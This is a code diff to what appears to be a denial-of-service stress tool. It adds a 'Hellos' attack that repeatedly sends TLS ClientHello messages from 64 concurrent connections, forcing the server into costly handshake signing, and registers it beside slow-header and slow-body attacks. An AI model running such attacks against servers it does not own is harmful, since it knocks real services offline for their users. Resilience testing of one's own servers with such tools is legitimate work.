@@ -16,6 +16,7 @@ import logging
 import os
 import resource
 import socket
+import ssl
 import sys
 import threading
 import time
@@ -194,6 +195,27 @@ class Idle(Attack):
             await self.answer(index, reader)
         finally:
             writer.close()
+
+
+class Hellos(Attack):
+    """Of a TLS handshake the first message, for which the server has to sign, and nothing more: again and again."""
+
+    COUNT = 64
+    PAUSE = 0.01
+
+    async def prepare(self):
+        outgoing = ssl.MemoryBIO()
+        with contextlib.suppress(ssl.SSLWantReadError):
+            ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
+        self.hello = outgoing.read()
+
+    async def client(self, index):
+        reader, writer = await self.connect()
+        try:
+            writer.write(self.hello)
+            self.answers["signed" if await reader.read(65536) else "cut"] += 1
+        finally:
+            writer.transport.abort()
 
 
 class SlowHead(Attack):
@@ -422,6 +444,7 @@ ATTACKS = {
     "missing-byte": MissingByte,
     "chunked-byte": ChunkedByte,
     "idle": Idle,
+    "hellos": Hellos,
     "slow-head": SlowHead,
     "slow-body": SlowBody,
     "detokenize-reader": DetokenizeReader,
